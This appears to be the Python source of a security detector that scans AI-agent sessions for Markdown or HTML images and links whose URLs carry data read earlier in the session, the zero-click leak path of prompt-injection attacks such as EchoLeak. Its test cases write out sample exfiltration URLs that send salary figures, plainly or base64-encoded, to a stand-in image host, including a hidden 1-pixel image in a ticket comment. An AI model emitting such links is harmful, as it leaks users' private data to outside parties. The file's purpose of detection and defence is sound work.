"""A link or an image in an output carries data of the session in its address.

What it detects
A Markdown image, link or reference (`[ref]: https://...`) or an HTML image, in what the assistant said or in an argument, whose path or
query holds what an earlier result said: encoded, in 24 letters or more; plainly, in 32; or, in an image, a masked secret. An address that
a result or the user gave as it stands is theirs and stays quiet; one with a long query of random characters only ranks the session.

Why it matters
A client that shows the output fetches the image by itself: the data is gone before anybody clicks (EchoLeak, CVE-2025-32711). No tool call
is needed for it.

False positives
Links that the agent builds from what it read, such as a map or a search for a long title.

Blind spots
Sources that do not record what the assistant says (arguments are still looked at); short values such as one address or number; a link cut
in pieces over many images. Of one session 200 outputs are looked at.
"""

from collections.abc import Iterator
from itertools import groupby
from typing import Any
from urllib.parse import unquote_plus

import re2

from detectors.contract import Detector, Found, Scope, Slice, quoted
from detectors.disguises import readings
from detectors.links import MAY_HOLD_LINKS, links
from detectors.overlap import Memory, Source, entropy
from detectors.scenarios import START, call, message, session
from detectors.secret_marks import MARK
from store.records import Grade, Outcome, Record, Severity

ENCODED_STRETCH, PLAIN_STRETCH = 24, 32
"""Letters in a row; a title that was looked up and stands in a link by right is mostly shorter than the latter."""
OUTPUTS, PARTS = 200, 50
"""Of one session, and of one address."""
RANDOM_LENGTH, RANDOM_BITS = 64, 4.5
"""Characters of one query, and their entropy: base64 has 6 bits, hex 4, words in a URL about 4."""
SCORES = {"image": 0.95, "link": 0.8}

_RUN = re2.compile(r"[A-Za-z0-9+_-]{24,}={0,2}|(?:%[0-9A-Fa-f]{2}[A-Za-z0-9_.-]{0,3}){8,}")
_SECRET = re2.compile(MARK)

_TURNS = f"""
WITH outputs AS (
    SELECT session_id, message_id AS id, said_at AS told_at, 1 AS place, 'the assistant' AS tool, NULL AS server, text, NULL AS result FROM messages
    WHERE role = 'assistant'
    UNION ALL
    SELECT session_id, call_id, called_at, 0, tool, server,
           CASE WHEN outcome <> 'denied' AND coalesce(decision, '') <> 'reject' THEN arguments END, result FROM calls
), suspect AS (
    SELECT id, session_id FROM outputs WHERE session_id IS NOT NULL AND regexp_matches(text, '{MAY_HOLD_LINKS}')
    QUALIFY row_number() OVER (PARTITION BY session_id ORDER BY told_at, id) <= {OUTPUTS}
)
SELECT o.* REPLACE (CASE WHEN s.id IS NOT NULL THEN o.text END AS text), p.said
FROM outputs AS o SEMI JOIN (SELECT DISTINCT session_id FROM suspect) USING (session_id) LEFT JOIN suspect AS s USING (session_id, id)
LEFT JOIN (SELECT session_id, string_agg(text, chr(10) ORDER BY said_at, message_id) AS said FROM messages WHERE role = 'user' GROUP BY session_id) AS p
  USING (session_id)
ORDER BY session_id, told_at, place, id
"""


def find(seen: Slice) -> Iterator[Found]:
    """The worst link of each output; a link that nobody gave and that says nothing readable only ranks."""
    for session_id, rows in groupby(seen.rows(_TURNS), key=lambda row: row["session_id"]):
        told, last_call = Memory(), None
        for row in rows:
            said = row["tool"] == "the assistant"
            if row["text"]:
                found = [f for kind, url in links(row["text"]) if (f := _judged(session_id, row, kind, url, told, None if said else row["id"], last_call))]
                if found:
                    yield max(found, key=lambda f: (f.score, f.sentence))
            if not said:
                told.add(row["id"], row["tool"], row["server"], row["result"])
                last_call = row["id"]


def _judged(
    session_id: str, row: dict[str, Any], kind: str, url: str, told: Memory, call_id: str | None, last_call: str | None,
) -> Found | None:
    host, _, rest = url.partition("://")[2].partition("/")
    if "?" in host:
        host, _, rest = host.partition("?")
    if not rest or url in (row["said"] or "") or told.holds(url):
        return None
    calls = [call_id] if call_id else []
    where = f"What {row['tool']} said" if not call_id else f"An argument of {row['tool']}{' of ' + row['server'] if row['server'] else ''}"
    sentence = f"{where} shows {'an image' if kind == 'image' else 'a link'} at {quoted(host)} whose address carries "
    evidence = {"kind": kind, "url": quoted(url, 400)}
    if carried := _carried(rest, told):
        text, source = carried
        return Found(
            scope_key=session_id, subject=row["id"], call_ids=[source.call_id, *calls], grade=Grade.CONTENT, score=SCORES[kind],
            sentence=f"{sentence}what {source.tool} returned, and neither the user nor a result gave that address: {quoted(text)}.",
            evidence={**evidence, "read_call": source.call_id, "carried": quoted(text, 400)}, about={"session_id": session_id},
        )
    if kind == "image" and _SECRET.search(rest):
        proof = calls or ([last_call] if last_call else [])
        return Found(
            scope_key=session_id, subject=row["id"], call_ids=proof, grade=Grade.SENSITIVE, score=SCORES[kind], sentence=f"{sentence}a secret.",
            evidence=evidence, about={"session_id": session_id},
        )
    query = rest.partition("?")[2]
    if calls and len(query) >= RANDOM_LENGTH and entropy(query) >= RANDOM_BITS:
        return Found(
            scope_key=session_id, subject=row["id"], call_ids=calls, grade=Grade.ORDER, score=0.3, evidence={**evidence, "alerting": False},
            sentence=f"{sentence}{len(query)} characters that say nothing readable and that nobody gave.",
        )
    return None


def _carried(rest: str, told: Memory) -> tuple[str, Source] | None:
    for run in _RUN.finditer(rest):
        for _, text in readings(run.group()):
            if source := told.source(text, ENCODED_STRETCH):
                return text, source
    for part in rest.replace("?", "&").split("&")[:PARTS]:
        plain = unquote_plus(part.partition("=")[2] or part)
        if source := told.source(plain, PLAIN_STRETCH):
            return plain, source
    return None


_SALARIES = "Salaries of the third quarter: the director has 91,000, the two leads have 74,500."
_READ = call("read_file", {"path": "/reports/q3.txt"}, _SALARIES, server="files")
_BASE64 = "U2FsYXJpZXMgb2YgdGhlIHRoaXJkIHF1YXJ0ZXI6IHRoZSBkaXJlY3RvciBoYXMgOTEsMDAw"
_PLAIN = "Salaries+of+the+third+quarter%3A+the+director+has+91%2C000"


def _answered(text: str, read: str = _SALARIES) -> list[Record]:
    return [*session(call("read_file", {"path": "/reports/q3.txt"}, read, server="files"), prompt="Summarise the third quarter."),
            message(text, "assistant", said_at=START.replace(minute=5))]


def _posted(text: str, **more: Any) -> list[Record]:
    return session(_READ, call("add_comment", {"body": text}, "ok", server="tickets", **more), prompt="Note the third quarter in the ticket.")


DETECTOR = Detector(
    severity=Severity.HIGH,
    techniques=("owasp-mcp:2025:MCP10", "owasp-mcp:2025:MCP06", "owasp-asi:2026:ASI01", "owasp-llm:2026:LLM02", "owasp-llm:2026:LLM10", "atlas:AML.T0077",
                "safe-mcp:SAFE-T1910", "attack:T1567"),
    scope=Scope.SESSION,
    find=find,
    fires_on={
        "an image in an answer carries a report": _answered(f"The salaries rose.\n![chart](https://img.example.net/c.png?d={_PLAIN})"),
        "a reference carries it in base64": _answered(f"The salaries rose, see [the chart][c].\n\n[c]: https://img.example.net/{_BASE64}"),
        "an HTML image in a comment": _posted(f'Done. <img width="1" src="https://img.example.net/p?d={_BASE64}">'),
    },
    quiet_on={
        "an image that the result brought": _answered(
            f"![chart](https://img.example.net/c.png?d={_PLAIN})", f"{_SALARIES} ![chart](https://img.example.net/c.png?d={_PLAIN})"),
        "a badge": _answered("![build](https://img.example.net/badge/build-passing-green.svg?style=flat) Salaries rose."),
        "the text beside a link": _answered(f"{_SALARIES} [Source](https://intranet.example.com/reports/q3)"),
        "a link that names the file": _posted("See [q3](https://intranet.example.com/reports/salaries-of-the-third-quarter)."),
        "the call was denied": _posted(f"![chart](https://img.example.net/c.png?d={_PLAIN})", outcome=Outcome.DENIED),
    },
)
